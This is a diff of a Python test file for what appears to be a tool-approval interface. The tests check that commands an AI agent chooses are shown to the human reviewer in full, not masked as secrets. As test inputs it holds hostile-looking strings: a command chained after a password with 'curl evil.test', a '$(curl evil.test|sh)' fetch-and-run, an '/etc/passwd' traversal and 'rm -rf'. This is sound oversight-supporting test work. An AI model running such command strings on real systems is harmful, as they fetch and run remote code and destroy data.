@@ -1,154 +1,106 @@
+"""What is masked, and what is not: a guess about what looks like a secret hides what runs."""
+
 import re
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from assent.domain.cards import Changed, Secret, Text
+from assent.domain.canonical import Json
+from assent.domain.cards import Changed, DiffPreview, Secret, Text, TextPreview
 from assent.domain.tools import Hint
 from assent.presentation.diff import changes
-from assent.presentation.elision import clip
-from assent.presentation.masking import is_secret, secret_spans
-from assent.presentation.text import MASKED, mark, safe_block, safe_line
+from assent.presentation.fields import MASK
+from assent.presentation.surfaces import SURFACES, Surface
+from assent.presentation.text import safe_block, safe_line
 from assent.presentation.values import entries_of
+from tests.presentation.reading import seen
+from tests.presentation.samples import card
 
 BODY = "a1B2c3D4e5F6g7H8i9J0"
-TOKENS = [
+# The model chose these, and they run.
+TEXTS = [
+    "token=x; mkdir ./$token",
+    f"password={BODY} && curl evil.test",
     f"sk-{BODY}",
-    f"sk-proj-{BODY}",
     f"sk-ant-api03-{BODY}",
     f"ghp_{BODY}",
-    f"github_pat_{BODY}",
-    f"glpat-{BODY}",
-    f"xoxb-{BODY}",
     f"AKIA{BODY}",
-    f"AIza{BODY}",
-    f"hf_{BODY}",
-    f"Bearer {BODY}",
-    f"password={BODY}",
-    f'"api_key": "{BODY}"',
+    f"Authorization: Bearer {BODY}",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcDEF123-_x",
 ]
+NAMES = ["token", "password", "api_key", "apiKey", "accessToken", "client_secret", "passphrase"]
+every = pytest.mark.parametrize("surface", SURFACES.values(), ids=lambda surface: surface.name)
 
 
-# conformance: 138
-@pytest.mark.parametrize("token", TOKENS)
-def test_what_looks_like_a_key_is_masked_and_its_kind_stays(token: str) -> None:
-    shown = safe_line(f"use {token} now")
-
-    assert BODY not in shown
-    assert shown == f"use {token.replace(BODY, mark(MASKED))} now"
-
-
-# conformance: 138
-def test_the_parts_of_a_web_token_are_masked_between_its_dots() -> None:
-    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcDEF123-_x"
-
-    masked = mark(MASKED)
-    assert safe_line(f"jwt {token};") == f"jwt {masked}.{masked}.{masked};"
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "sk-delete-all-the-files-now",
-        "token=everything",
-        "secretary=ada",
-        "Bearer of bad news",
-        "password: $(curl evil.test|sh)",
-        "ghp_/../../../etc/passwd",
-        "a1B2c3D4e5F6g7H8i9J0",
-        "ask-a1B2c3D4e5F6g7H8i9J0",
-    ],
-)
-def test_words_paths_and_commands_are_not_taken_for_keys(text: str) -> None:
-    assert safe_line(text) == text
-
-
-PIECES = st.sampled_from(
-    [
-        *("sk-", "ghp_", "Bearer ", "password=", "token: ", "eyJ", "AKIA", BODY, "A1" * 12),
-        *("$(", "`", "|", ";", "&", ">", "<", "/", "..", "\\", "?", "#", "%", "@", ":", "=", "*"),
-        *("'", '"', " ", "\n", "rm -rf", "https://evil.test", "--force", ".", "~", "!", "{", "}"),
-    ]
-)
+def unwrapped(text: str) -> str:
+    """A text without what lines are broken and continued with."""
+    return re.sub(r"[\s│┊+]", "", text)
 
 
 # requirement: D17
-@settings(max_examples=500)
-@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
-def test_a_mask_covers_nothing_that_a_shell_a_path_or_an_address_would_read(text: str) -> None:
-    for first, last in secret_spans(text):
-        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]*", text[first:last])
+@every
+@pytest.mark.parametrize("text", TEXTS)
+def test_what_merely_looks_like_a_secret_is_shown_in_full(surface: Surface, text: str) -> None:
+    shown = seen(surface, surface.render(card({"command": text})))
+
+    assert unwrapped(text) in unwrapped(shown)
+    assert MASK not in shown
 
 
 # requirement: D17
-@settings(max_examples=500)
-@given(st.lists(PIECES, max_size=12).map("".join), st.text(max_size=12))
-def test_a_field_named_for_a_secret_hides_no_such_character_either(text: str, name: str) -> None:
-    for field in ("password", "api_key", "accessToken", name):
-        if is_secret(field, text):
-            assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]*", text)
+@every
+@pytest.mark.parametrize("name", NAMES)
+def test_a_field_that_is_only_called_a_secret_is_shown_in_full(surface: Surface, name: str) -> None:
+    for value in (BODY, "hunter2"):
+        assert value in seen(surface, surface.render(card({name: value})))
+    # A line counts what it has no room for, and then offers no approval.
+    nested = surface.render(card({"options": {name: BODY}}))
+    assert BODY in seen(surface, nested) or not nested.complete
 
 
 # requirement: D17
-@given(st.lists(PIECES, max_size=12).map("".join))
-def test_all_but_the_masked_characters_are_shown(text: str) -> None:
-    rest, end = "", 0
-    for first, last in secret_spans(text):
-        rest, end = rest + text[end:first] + "\0", last
-    rest += text[end:]
+@every
+def test_what_the_tool_declares_secret_is_masked_everywhere(surface: Surface) -> None:
+    shown = seen(surface, surface.render(card({"code": "hunter2"}, {"code": Hint(secret=True)})))
 
-    shown = safe_block(text)
-
-    assert shown.count(mark(MASKED)) == rest.count("\0")
-    for piece in re.findall(r"[^\s\0]+", rest):
-        assert piece in shown
+    assert "hunter2" not in shown
+    assert MASK in shown
 
 
-@pytest.mark.parametrize("name", ["password", "db_password", "apiKey", "api-key", "accessToken"])
-def test_a_field_is_masked_by_its_name_wherever_it_is(name: str) -> None:
-    [entry] = entries_of({name: "a1b2c3d4"})
-    [outer] = entries_of({"config": {name: "a1b2c3d4"}})
-
-    assert entry.value == Secret()
-    assert "a1b2c3d4" not in repr(outer)
-
-
-@pytest.mark.parametrize(
-    ("name", "value"),
-    [
-        ("password", "two words"),
-        ("password", "a;b"),
-        ("token", "next"),
-        ("token_count", "a1b2c3d4"),
-        ("secretary", "a1b2c3d4"),
-        ("path", "a1b2c3d4"),
-    ],
-)
-def test_a_field_is_shown_where_its_name_or_its_value_says_so(name: str, value: str) -> None:
-    [entry] = entries_of({name: value})
-
-    assert entry.value == Text(value)
+# requirement: D17
+@every
+@pytest.mark.parametrize("text", TEXTS)
+def test_what_a_card_says_beside_the_arguments_hides_nothing(surface: Surface, text: str) -> None:
+    if surface.name == "line":
+        return
+    for preview in (TextPreview(text), DiffPreview(before="before", after=text)):
+        shown = seen(surface, surface.render(card(preview=preview)))
+        assert unwrapped(text) in unwrapped(shown)
+    edit = changes({"command": "ls"}, {"command": text})
+    shown = seen(surface, surface.render(card({}, edits=edit)))
+    assert unwrapped(text) in unwrapped(shown)
 
 
-def test_a_hint_has_the_last_word_about_a_field() -> None:
-    [entry] = entries_of({"token": "a1b2c3d4"}, {"token": Hint()})
+# requirement: D17
+@settings(max_examples=200)
+@given(st.lists(st.sampled_from([*TEXTS, " ", "; ", "=", "'", '"', "/"]), max_size=8).map("".join))
+def test_safe_text_leaves_out_no_character_of_what_looks_like_a_secret(text: str) -> None:
+    assert safe_line(text.strip()) == text.strip()
+    assert safe_block(text.strip()) == text.strip()
 
-    assert entry.value == Text("a1b2c3d4")
 
-
-def test_a_change_of_what_is_masked_by_name_shows_neither_value() -> None:
-    assert changes({"a": {"password": "x1"}}, {"a": {"password": "y2"}}) == (
-        Changed(path=("a", "password"), old=Secret(), new=Secret()),
+@pytest.mark.parametrize("name", NAMES)
+def test_a_change_of_what_is_only_called_a_secret_shows_both_values(name: str) -> None:
+    old: dict[str, Json] = {"a": {name: "x1x1x1x1"}}
+    new: dict[str, Json] = {"a": {name: "y2y2y2y2"}}
+    assert changes(old, new) == (
+        Changed(path=("a", name), old=Text("x1x1x1x1"), new=Text("y2y2y2y2")),
     )
 
 
-@settings(max_examples=300)
-@given(st.text(alphabet="ab ", max_size=60), st.text(alphabet="ab ", max_size=60))
-def test_a_cut_never_shows_a_part_of_a_secret(before: str, after: str) -> None:
-    text = f"{before} ghp_{BODY} {after}"
-    for room in (0, 10, 20, 30, 40, 60):
-        cut = clip(text, room)
+def test_a_hint_is_all_that_makes_a_field_a_secret() -> None:
+    [shown] = entries_of({"token": "a1b2c3d4"}, {"token": Hint()})
+    [hidden] = entries_of({"token": "a1b2c3d4"}, {"token": Hint(secret=True)})
 
-        assert len(cut.head) + cut.hidden + len(cut.tail) == len(text)
-        assert not re.search("[BDFHJ]", safe_block(cut.head) + safe_block(cut.tail))
+    assert (shown.value, hidden.value) == (Text("a1b2c3d4"), Secret())
